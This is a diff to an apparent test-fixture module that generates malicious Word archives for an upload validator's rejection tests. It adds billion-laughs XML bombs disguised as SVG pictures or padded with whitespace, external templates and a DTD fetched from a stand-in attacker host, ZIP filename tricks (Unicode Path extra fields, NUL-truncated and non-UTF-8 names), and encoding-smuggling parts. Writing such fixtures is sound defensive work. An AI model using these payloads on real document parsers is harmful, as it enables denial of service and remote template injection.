@@ -2,14 +2,19 @@
 import { constants, crc32, deflateRawSync } from 'node:zlib';
 
 export type PackedEntry = {
-  name: string;
+  name: string | Buffer;
   packed: Buffer;
   /** As the directory and the header of the part declare it. */
   size: number;
   isDeflated?: boolean;
   /** Where the directory says that the part is, if not where it is. */
   at?: number;
+  /** Extra fields in the directory, and in the header of the part. */
+  extra?: Buffer;
+  headerExtra?: Buffer;
 };
+
+const NOTHING = Buffer.alloc(0);
 
 const MEGABYTE = 1_048_576;
 const FILLER = Buffer.alloc(MEGABYTE);
@@ -52,8 +57,9 @@ export function packedZip(entries: PackedEntry[], { entryCount = entries.length 
   const locals: Buffer[] = [];
   const directory: Buffer[] = [];
   let offset = 0;
-  for (const { name, packed, size, isDeflated = true, at = offset } of entries) {
-    const path = Buffer.from(name);
+  for (const { name, packed, size, isDeflated = true, at = offset, ...more } of entries) {
+    const { extra = NOTHING, headerExtra = NOTHING } = more;
+    const path = typeof name === 'string' ? Buffer.from(name) : name;
     const facts = Buffer.alloc(26);
     facts.writeUInt16LE(20, 0);
     facts.writeUInt16LE(0x800, 2);
@@ -62,11 +68,14 @@ export function packedZip(entries: PackedEntry[], { entryCount = entries.length 
     facts.writeUInt32LE(packed.length, 14);
     facts.writeUInt32LE(size, 18);
     facts.writeUInt16LE(path.length, 22);
+    const ofDirectory = Buffer.from(facts);
+    ofDirectory.writeUInt16LE(extra.length, 24);
+    facts.writeUInt16LE(headerExtra.length, 24);
     const place = Buffer.alloc(14);
     place.writeUInt32LE(at, 10);
-    directory.push(Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), facts, place, path);
+    directory.push(Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), ofDirectory, place, path, extra);
     if (at !== offset) continue;
-    const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), facts, path, packed]);
+    const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), facts, path, headerExtra, packed]);
     locals.push(local);
     offset += local.length;
   }
@@ -94,10 +103,29 @@ const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({
   return `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${before};`.repeat(10)}">`;
 }).join('')}]><w:document>&j;</w:document>`;
 
+const SHIFT_JIS = '<?xml version="1.0" encoding="shift_jis"?><w:ftr/>';
+
 const utf16 = (text: string) => Buffer.from(`\ufeff${text.replace('<?xml version="1.0"?>', '')}`, 'utf16le');
 
 const linked = (type: string, target: string, mode = 'External') =>
   packedDocx(entry('word/_rels/document.xml.rels', relationships({ type, target, mode })));
+
+const LINKS_OF_SETTINGS = 'word/_rels/settings.xml.rels';
+const EXTERNAL_TEMPLATE = entry(
+  LINKS_OF_SETTINGS,
+  relationships({ type: 'attachedTemplate', target: 'https://evil.example/a.dotm', mode: 'External' }),
+);
+
+/** Says that the links of the settings are a picture: Info-ZIP Unicode Path, behind a field that means nothing here. */
+function secondName(name: string): Buffer {
+  const facts = Buffer.alloc(13);
+  facts.writeUInt16LE(0xcafe, 0);
+  facts.writeUInt16LE(0x7075, 4);
+  facts.writeUInt16LE(5 + Buffer.byteLength(name), 6);
+  facts.writeUInt8(1, 8);
+  facts.writeUInt32LE(crc32(LINKS_OF_SETTINGS), 9);
+  return Buffer.concat([facts, Buffer.from(name)]);
+}
 
 /** All of them say that they are the first part, so that many fit into a file that may be sent. */
 const manyEntries = (count: number): PackedEntry[] =>
@@ -131,6 +159,22 @@ export const bombsByDirectory = (): Record<string, Buffer> => ({
     })),
   ),
   'an archive in it': packedDocx(entry('word/a.zip', nested(1))),
+  'an external template with the name of a picture as well': packedDocx({
+    ...EXTERNAL_TEMPLATE,
+    extra: secondName('word/media/a.png'),
+  }),
+  'an external template that its own header alone names a picture': packedDocx({
+    ...EXTERNAL_TEMPLATE,
+    headerExtra: secondName('word/media/a.png'),
+  }),
+  'an external template whose name some read to its end and some to a NUL': packedDocx({
+    ...EXTERNAL_TEMPLATE,
+    name: `${LINKS_OF_SETTINGS}\0.png`,
+  }),
+  'a name that is no UTF-8': packedDocx({
+    ...EXTERNAL_TEMPLATE,
+    name: Buffer.from('word/media/\u00e9.png', 'latin1'),
+  }),
 });
 
 /** Refused by what comes out of them, as soon as it does. */
@@ -146,9 +190,25 @@ export const bombsByContent = (): Record<string, Buffer> => ({
     entry('word/footer1.xml', LAUGHS.replace('?>', `?><!--${'-x'.repeat(100_000)}-->`)),
   ),
   'a billion laughs under another name': packedDocx(entry('word/footer.bin', LAUGHS)),
+  'a billion laughs under the name of a picture': packedDocx(entry('word/media/a.svg', LAUGHS)),
+  'a billion laughs in a picture': packedDocx(
+    entry('word/media/a.svg', LAUGHS.replace('<!DOCTYPE l', '<!DOCTYPE svg')),
+  ),
+  'a picture with a document type from elsewhere': packedDocx(
+    entry('word/media/a.svg', '<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg/>'),
+  ),
+  'a billion laughs behind white space, under another name': packedDocx(
+    entry('word/footer.bin', `${' '.repeat(20_000)}${LAUGHS.replace('<?xml version="1.0"?>', '')}`),
+  ),
   'a part in an encoding that hides what it says': packedDocx(
     entry('word/footer1.xml', '<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE'),
   ),
+  'a part in such an encoding, under another name': packedDocx(entry('word/footer.bin', SHIFT_JIS)),
+  'a part in such an encoding, under the name of a picture': packedDocx(entry('word/media/a.svg', SHIFT_JIS)),
+  'a part that names such an encoding behind white space': packedDocx(
+    entry('word/footer1.xml', SHIFT_JIS.replace(' encoding', `${' '.repeat(2_000)}encoding`)),
+  ),
+  'a part in EBCDIC under another name': packedDocx(entry('word/footer.bin', Buffer.from('4c6fa79493', 'hex'))),
   'an external template': linked('attachedTemplate', 'https://evil.example/a.dotm'),
   'an external template of the network': linked('attachedTemplate', 'file:///\\\\evil.example\\share\\a.dotm'),
   'an external object': linked('oleObject', 'https://evil.example/a.bin'),
